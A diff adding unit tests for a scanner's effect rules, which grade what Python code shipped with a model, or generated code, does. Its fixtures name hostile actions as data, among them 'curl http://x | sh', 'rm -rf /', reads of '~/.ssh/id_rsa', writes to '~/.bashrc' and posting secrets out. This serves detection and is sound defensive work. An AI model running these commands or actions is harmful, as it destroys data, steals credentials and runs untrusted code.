@@ -1,0 +1,216 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import type { EffectFact } from '../../../src/core/code.ts';
+import { effectRules } from '../../../src/rules/code/effects.ts';
+
+const nobody = { allow: () => false, allowDangerous: () => false, review: () => false, deny: () => false };
+
+function fact(given: Partial<EffectFact>): EffectFact {
+  return {
+    kind: 'effect',
+    where: { line: 1 },
+    language: 'python',
+    context: 'repository',
+    capability: 'process',
+    phase: 'import',
+    reach: 'load',
+    callable: 'os.system',
+    evidence: 'f()',
+    taint: [],
+    traits: [],
+    ...given,
+  };
+}
+
+/** The rule and severity of the one finding; `nothing` where there is none. */
+function judged(given: Partial<EffectFact>): string {
+  const found: string[] = [];
+  for (const rule of effectRules) {
+    const judgement = rule.check(fact(given), nobody);
+    if (judgement !== null) found.push(`${rule.id} ${judgement.severity}`);
+  }
+  assert.ok(found.length <= 1, `one finding for one fact: ${found.join(', ')}`);
+  return found[0] ?? 'nothing';
+}
+
+type Case = readonly [Partial<EffectFact>, string];
+
+const decodedExec: Partial<EffectFact> = {
+  capability: 'dynamic-code',
+  callable: 'builtins.exec',
+  argument: 'import os',
+  traits: ['decoded', 'constant'],
+};
+
+// What issue 6 and the policy presets ask for: high and critical deny, medium is reviewed, low and info pass.
+const repository: readonly Case[] = [
+  [{ argument: 'curl http://x | sh', traits: ['shell', 'constant'] }, 'process-started critical'],
+  [{ argument: 'build.sh', traits: ['shell', 'constant'] }, 'process-started high'],
+  [{ argument: 'nvidia-smi', traits: ['constant'] }, 'process-started medium'],
+  [{ phase: 'construct', argument: 'build.sh' }, 'process-started medium'],
+  [{ phase: 'call', argument: 'build.sh' }, 'process-started low'],
+  [{ phase: 'start', argument: 'git clone x' }, 'process-started low'],
+  [{ phase: 'dead', argument: 'rm -rf /' }, 'nothing'],
+  [{ phase: 'call', traits: ['shell'], taint: ['network'] }, 'process-started medium'],
+  // Nothing loads the file by itself: no worse than what is called later.
+  [{ reach: 'none', argument: 'build.sh' }, 'process-started low'],
+  [{ traits: ['computed-callee'], argument: 'x' }, 'hidden-effect high'],
+  [decodedExec, 'hidden-effect critical'],
+  [{ ...decodedExec, phase: 'call' }, 'hidden-effect high'],
+  [{ ...decodedExec, phase: 'start' }, 'hidden-effect high'],
+  [{ ...decodedExec, phase: 'dead' }, 'hidden-effect low'],
+  [{ capability: 'dynamic-code', callable: 'builtins.exec', traits: ['opaque'] }, 'code-executed high'],
+  [{ capability: 'dynamic-code', callable: 'builtins.exec', taint: ['network'] }, 'code-executed critical'],
+  [
+    { capability: 'dynamic-code', callable: 'builtins.eval', argument: '1+1', traits: ['constant'] },
+    'code-executed info',
+  ],
+  [
+    { capability: 'dynamic-code', callable: 'builtins.eval', phase: 'call', taint: ['parameter'] },
+    'code-executed low',
+  ],
+  [{ capability: 'network', callable: 'requests.get', argument: 'https://x.example/' }, 'network-used high'],
+  [{ capability: 'network', callable: 'requests.get', phase: 'call' }, 'network-used info'],
+  [{ capability: 'network', callable: 'huggingface_hub.hf_hub_download', phase: 'construct' }, 'nothing'],
+  [
+    { capability: 'network', callable: 'transformers.AutoModel.from_pretrained', argument: 'a/b' },
+    'network-used low',
+  ],
+  [
+    { capability: 'network', callable: 'requests.post', taint: ['secret'], argument: 'http://x/' },
+    'secret-leaves critical',
+  ],
+  [
+    { capability: 'network', callable: 'requests.post', taint: ['secret'], phase: 'call' },
+    'secret-leaves critical',
+  ],
+  [{ capability: 'native-code', callable: 'ctypes.CDLL', argument: './x.so' }, 'native-code-loaded high'],
+  [
+    { capability: 'native-code', callable: 'torch.utils.cpp_extension.load', phase: 'call' },
+    'native-code-loaded low',
+  ],
+  [
+    { capability: 'native-code', callable: 'ctypes.windll.kernel32.VirtualAlloc' },
+    'machine-code-injected critical',
+  ],
+  [
+    { capability: 'credentials', callable: 'builtins.open', argument: '~/.ssh/id_rsa' },
+    'credentials-read critical',
+  ],
+  [
+    { capability: 'credentials', callable: 'huggingface_hub.get_token', phase: 'call' },
+    'credentials-read low',
+  ],
+  [{ capability: 'file-delete', callable: 'os.remove', argument: '/home/u/x' }, 'files-deleted high'],
+  [{ capability: 'file-delete', callable: 'shutil.rmtree', argument: '/' }, 'files-deleted critical'],
+  [{ capability: 'file-delete', callable: 'os.remove', argument: 'x', phase: 'call' }, 'files-deleted info'],
+  [
+    { capability: 'file-write', callable: 'builtins.open', argument: '~/.bashrc' },
+    'persistence-installed critical',
+  ],
+  [{ capability: 'file-write', callable: 'builtins.open', argument: '/etc/x' }, 'files-written high'],
+  [{ capability: 'file-write', callable: 'os.makedirs', argument: '~/.cache/x' }, 'nothing'],
+  [{ capability: 'file-write', callable: 'builtins.open', phase: 'call' }, 'nothing'],
+  [{ capability: 'file-read', callable: 'builtins.open', argument: 'vocab.txt' }, 'nothing'],
+  [{ capability: 'environment', callable: 'os.environ.get', argument: 'HOME' }, 'nothing'],
+  [{ capability: 'reflection', callable: 'importlib.import_module', argument: 'flash_attn' }, 'nothing'],
+  [{ capability: 'deserialisation', callable: 'torch.load', traits: ['safeguarded'] }, 'nothing'],
+  [{ capability: 'deserialisation', callable: 'pickle.load', phase: 'call' }, 'data-deserialised low'],
+  [
+    { capability: 'deserialisation', callable: 'pickle.loads', taint: ['network'] },
+    'data-deserialised critical',
+  ],
+  [{ capability: 'system', callable: 'pynput.keyboard.Listener' }, 'input-watched critical'],
+];
+
+test('what comes with a model is judged by when it happens', () => {
+  for (const [given, expected] of repository) assert.equal(judged(given), expected, JSON.stringify(given));
+});
+
+const generated: readonly Case[] = [
+  [{ argument: 'ls -l', traits: ['shell', 'constant'] }, 'process-started info'],
+  [{ argument: 'rm -rf /', traits: ['shell', 'constant'] }, 'process-started high'],
+  [{ argument: '\uf8ff', traits: ['shell'], taint: ['input'] }, 'process-started medium'],
+  [{ phase: 'call', argument: 'rm -rf ~', traits: ['shell', 'constant'] }, 'process-started high'],
+  [{ phase: 'dead', argument: 'rm -rf ~', traits: ['shell', 'constant'] }, 'nothing'],
+  [
+    { capability: 'file-delete', callable: 'os.remove', argument: '/home/user/report.txt' },
+    'files-deleted high',
+  ],
+  [{ capability: 'file-delete', callable: 'os.remove', argument: 'out.txt' }, 'files-deleted low'],
+  [{ capability: 'file-delete', callable: 'shutil.rmtree' }, 'files-deleted medium'],
+  [{ capability: 'file-write', callable: 'builtins.open', argument: 'out.txt' }, 'nothing'],
+  [
+    { capability: 'file-write', callable: 'builtins.open', argument: '/etc/hosts' },
+    'persistence-installed high',
+  ],
+  [{ capability: 'file-read', callable: 'builtins.open', argument: 'in.csv' }, 'nothing'],
+  [
+    { capability: 'credentials', callable: 'builtins.open', argument: '/etc/passwd' },
+    'credentials-read high',
+  ],
+  [{ capability: 'network', callable: 'requests.get', argument: 'https://x.example/' }, 'network-used info'],
+  [
+    { capability: 'network', callable: 'requests.post', taint: ['secret'], argument: 'http://1.2.3.4/' },
+    'secret-leaves high',
+  ],
+  [{ capability: 'system', callable: 'os.kill', taint: ['parameter'] }, 'system-changed high'],
+  [{ capability: 'system', callable: 'os.setuid', argument: '0' }, 'system-changed high'],
+  [{ capability: 'system', callable: 'winreg.SetValueEx' }, 'system-changed high'],
+  [
+    { capability: 'dynamic-code', callable: 'builtins.exec', taint: ['parameter'], traits: ['opaque'] },
+    'code-executed medium',
+  ],
+  [decodedExec, 'hidden-effect high'],
+  [
+    { capability: 'deserialisation', callable: 'pickle.load', argument: 'model.pkl' },
+    'data-deserialised low',
+  ],
+  [
+    { capability: 'database', callable: 'sqlite3.Cursor.execute', taint: ['parameter'] },
+    'untrusted-statement medium',
+  ],
+  [{ capability: 'database', callable: 'sqlite3.Cursor.execute', traits: ['constant'] }, 'nothing'],
+];
+
+test('a program that is about to be run is judged by what it does', () => {
+  for (const [given, expected] of generated)
+    assert.equal(judged({ context: 'generated', ...given }), expected, JSON.stringify(given));
+});
+
+test('what a shell or a database does by its nature is judged by its hazards alone', () => {
+  for (const language of ['shell', 'sql'] as const)
+    for (const capability of ['process', 'network', 'file-delete', 'dynamic-code'] as const)
+      assert.equal(judged({ language, capability, callable: 'rm', argument: 'x' }), 'nothing');
+});
+
+test('a finding says what the source hides, and when it happens', () => {
+  for (const rule of effectRules) {
+    const judgement = rule.check(
+      fact({ ...decodedExec, evidence: "exec(b64decode('…'))", through: ['<module>', 'setup'] }),
+      nobody,
+    );
+    if (judgement === null) continue;
+    assert.match(judgement.evidence, /that is builtins\.exec/);
+    assert.match(judgement.evidence, /with "import os"/);
+    assert.match(judgement.evidence, /through <module> > setup/);
+    assert.match(judgement.evidence, /as soon as the file is imported/);
+    return;
+  }
+  assert.fail('no finding');
+});
+
+test('rules of effects are judged in time that does not explode on hostile arguments', () => {
+  const texts = [
+    'dd '.repeat(3000),
+    'rm -'.repeat(3000),
+    '|'.repeat(8000),
+    'curl '.repeat(2000),
+    '/'.repeat(8000),
+  ];
+  const from = performance.now();
+  for (const argument of texts)
+    for (const capability of ['process', 'file-write', 'network', 'file-delete'] as const)
+      for (const rule of effectRules) rule.check(fact({ argument, capability }), nobody);
+  assert.ok(performance.now() - from < 2_000);
+});
